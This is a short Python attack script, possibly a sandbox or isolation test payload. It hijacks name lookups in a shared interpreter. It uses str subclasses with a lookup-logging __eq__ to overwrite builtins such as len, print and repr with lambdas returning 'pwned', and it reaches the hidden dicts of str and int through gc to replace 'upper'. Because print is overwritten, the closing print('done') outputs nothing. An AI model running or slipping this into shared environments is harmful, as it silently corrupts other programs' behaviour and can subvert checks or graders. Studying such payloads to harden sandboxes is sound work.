# Inserts str subclasses that compare equal to the victim's global names into shared dicts (builtins, type dicts) to hijack lookups.
import builtins, gc
LEAKED = []
class Key(str):
    def __hash__(self): return str.__hash__(self)
    def __eq__(self, other):
        LEAKED.append(other)
        return str.__eq__(self, other)
for name in ("len", "print", "secret", "victim_fn", "check", "repr"):
    try: builtins.__dict__[Key(name)] = lambda *a: "pwned"
    except Exception: pass
for t in (str, int):
    try:
        d = [d for d in gc.get_referents(t.__dict__) if isinstance(d, dict)][0]
        d[Key("upper")] = lambda s: "pwned"
    except Exception:
        pass
LEAKED = []
print("done")
